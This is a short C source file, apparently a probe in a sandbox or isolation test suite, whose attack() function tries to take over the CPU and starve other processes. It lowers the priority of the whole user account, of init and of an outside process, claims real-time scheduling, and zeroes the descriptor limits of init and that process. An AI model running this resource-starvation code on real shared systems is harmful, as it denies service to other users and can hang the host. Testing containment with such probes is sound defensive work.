// SPDX-License-Identifier: MIT
// Slows everybody of its account down, and takes the processor for itself.
#include "attack.h"

#include <sched.h>
#include <sys/resource.h>

static void attack(void) {
  struct sched_param first = {99};
  told("everybody of the account", setpriority(PRIO_USER, 0, 19));
  told("init", setpriority(PRIO_PROCESS, 1, 19));
  told("outside", setpriority(PRIO_PROCESS, (id_t)outside_process, 19));
  told("faster", setpriority(PRIO_PROCESS, 0, -20));
  told("real time", sched_setscheduler(0, SCHED_FIFO, &first));
  told("round robin", sched_setscheduler(0, SCHED_RR, &first));
  told("disk of everybody", syscall(SYS_ioprio_set, 3, 0, 3 << 13));
  told("limits of init", prlimit(1, RLIMIT_NOFILE, &(struct rlimit){0, 0}, NULL));
  told("limits outside", prlimit(outside_process, RLIMIT_NOFILE, &(struct rlimit){0, 0}, NULL));
  told("more processes", setrlimit(RLIMIT_NPROC, &(struct rlimit){100000, 100000}));
  told("more descriptors", setrlimit(RLIMIT_NOFILE, &(struct rlimit){100000, 100000}));
  told("more time", setrlimit(RLIMIT_CPU, &(struct rlimit){RLIM_INFINITY, RLIM_INFINITY}));
}
